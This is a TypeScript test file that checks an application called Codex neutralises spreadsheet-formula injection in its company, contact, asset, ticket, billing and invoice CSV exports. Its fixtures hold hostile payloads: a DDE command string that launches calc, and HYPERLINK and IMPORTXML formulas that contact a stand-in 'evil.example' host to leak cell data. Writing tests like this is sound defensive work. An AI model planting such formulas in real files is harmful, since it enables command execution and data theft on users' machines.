import { afterAll, beforeAll, describe, expect, test } from "bun:test";
import { parse } from "csv-parse/sync";
import { strFromU8, unzipSync } from "fflate";
import { ENGINES, startCodex, type CodexUnderTest } from "./harness.ts";
import { seedFixture } from "./fixtures.ts";

/**
 * CSV injection (OWASP): a cell a spreadsheet would run as a formula starts with = + - @, a tab
 * or a carriage return. Every cell of every CSV Codex hands out is neutralised, list cells
 * included; only plain numbers in numeric columns (a credit of -5.00) stay numbers.
 */
const FORMULA_START = /^[=+\-@\t\r]/;
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;
const HOSTILE = {
  name: '=HYPERLINK("http://evil.example/?"&A1,"Open")',
  domains: ["=cmd|' /C calc'!A0", "+1+1", "acme.example", "@SUM(1+1)"],
  description: "\t=1+1",
  notes: "\r=1+1",
};

for (const engine of ENGINES) {
  describe(`CSV downloads neutralise formulas (${engine})`, () => {
    let codex: CodexUnderTest;
    const now = new Date();
    const period = `year=${now.getUTCFullYear()}&month=${now.getUTCMonth() + 1}`;
    const invoice = `ACME-001-${now.getUTCFullYear()}${String(now.getUTCMonth() + 1).padStart(2, "0")}`;

    beforeAll(async () => {
      codex = await startCodex(engine);
      await seedFixture(codex.deps.db);
      const ok = async (res: Promise<Response>) => {
        const r = await res;
        if (r.status >= 300) throw new Error(`${r.status} ${await r.text()}`);
      };
      await ok(codex.call("admin", "PUT", "/api/companies/ACME-001", HOSTILE));
      await ok(
        codex.call("admin", "POST", "/api/contacts", {
          name: "-Mallory",
          email: "mallory@acme.example",
          secondary_emails: ["-2+3@evil.example", "+cmd@evil.example"],
          job_title: "@admin",
          companies: ["ACME-001"],
        }),
      );
      await ok(
        codex.call("admin", "POST", "/api/assets", {
          company: "ACME-001",
          hostname: "=EVIL-PC",
          description: "+1",
          custom_fields: { note: "=1+1" },
        }),
      );
      await ok(
        codex.call("admin", "POST", "/api/tickets", {
          company: "ACME-001",
          subject: '=HYPERLINK("http://evil.example","Open")',
          description: "@SUM(1+1)",
        }),
      );
      await ok(
        codex.call("admin", "POST", "/api/companies/ACME-001/line-items", {
          name: '=IMPORTXML("http://evil.example","//a")',
          kind: "monthly",
          amount_cents: -500,
        }),
      );
    }, 30_000);
    afterAll(() => codex.stop());

    const text = async (path: string, level: "technician" | "billing" = "technician") => {
      const res = await codex.call(level, "GET", path);
      expect([path, res.status]).toEqual([path, 200]);
      return res.text();
    };
    /** Every cell that a spreadsheet would run, as `file: row/column: value`. */
    const formulaCells = (file: string, csv: string) =>
      (parse(csv, { relax_column_count: true }) as string[][]).flatMap((row, r) =>
        row.flatMap((cell, col) =>
          FORMULA_START.test(cell) && !PLAIN_NUMBER.test(cell) ? [`${file}: ${r}/${col}: ${JSON.stringify(cell)}`] : [],
        ),
      );

    test("companies, contacts, assets and tickets exports, list and JSON cells included", async () => {
      const files: Record<string, string> = {};
      for (const kind of ["companies", "contacts", "assets", "tickets"])
        files[kind] = await text(`/api/${kind}/export.csv`);
      expect(Object.entries(files).flatMap(([f, csv]) => formulaCells(f, csv))).toEqual([]);
      expect(files.tickets).toContain(`"'=HYPERLINK(""http://evil.example"",""Open"")"`);
      expect(files.tickets).toContain("'@SUM(1+1)");
      expect(files.companies).toContain(`'=cmd|' /C calc'!A0;+1+1;acme.example;@SUM(1+1)`);
      expect(files.contacts).toContain("'-2+3@evil.example;+cmd@evil.example");
      expect(files.contacts).toContain("'-Mallory");
      expect(files.assets).toContain("'=EVIL-PC");
    });

    test("the import reads a neutralised export back to the values it holds", async () => {
      const csv = await text("/api/companies/export.csv");
      const res = await codex.call("technician", "POST", "/api/companies/import", csv, { "content-type": "text/csv" });
      expect(await res.json()).toMatchObject({ ok: true, created: 0, updated: 0, errors: 0 });
      const acme = await (await codex.call("technician", "GET", "/api/companies/ACME-001")).json();
      expect([acme.name, acme.domains, acme.description, acme.notes]).toEqual([
        HOSTILE.name,
        HOSTILE.domains,
        HOSTILE.description.trim(),
        HOSTILE.notes.trim(),
      ]);
    });

    test("every billing CSV, the invoice ZIP's files and an accepted invoice's CSV; credits stay numbers", async () => {
      const files: Record<string, string> = {
        "bills.csv": await text(`/api/billing/export.csv?${period}`, "billing"),
        "quickbooks.csv": await text(`/api/billing/quickbooks.csv?${period}`, "billing"),
        "invoice.csv": await text(`/api/billing/ACME-001/invoice.csv?${period}`, "billing"),
        "acme-quickbooks.csv": await text(`/api/billing/ACME-001/quickbooks.csv?${period}`, "billing"),
      };
      const zip = await codex.call("billing", "GET", `/api/billing/invoices.zip?${period}`);
      expect(zip.status).toBe(200);
      for (const [name, bytes] of Object.entries(unzipSync(new Uint8Array(await zip.arrayBuffer()))))
        files[`zip/${name}`] = strFromU8(bytes);
      expect(Object.keys(files)).toContain(`zip/${invoice}.csv`);
      const accept = await codex.call("billing", "POST", "/api/billing/ACME-001/accept", {
        year: now.getUTCFullYear(),
        month: now.getUTCMonth() + 1,
      });
      expect(accept.status).toBeLessThan(300);
      files["accepted.csv"] = await text(`/api/invoices/${invoice}/csv`, "billing");

      expect(Object.entries(files).flatMap(([f, csv]) => formulaCells(f, csv))).toEqual([]);
      const credit = (parse(files["invoice.csv"]!, { columns: true }) as Record<string, string>[]).find((r) =>
        r.description?.includes("IMPORTXML"),
      );
      expect(credit).toMatchObject({ description: `'=IMPORTXML("http://evil.example","//a")`, amount: "-5.00" });
      expect(credit!.unit_price).toBe("-5.00");
      const qb = (parse(files["quickbooks.csv"]!, { columns: true }) as Record<string, string>[]).find((r) =>
        r.ItemDescription?.includes("IMPORTXML"),
      );
      expect(qb).toMatchObject({ Customer: `'${HOSTILE.name}`, ItemAmount: "-5.00" });
    });
  });
}
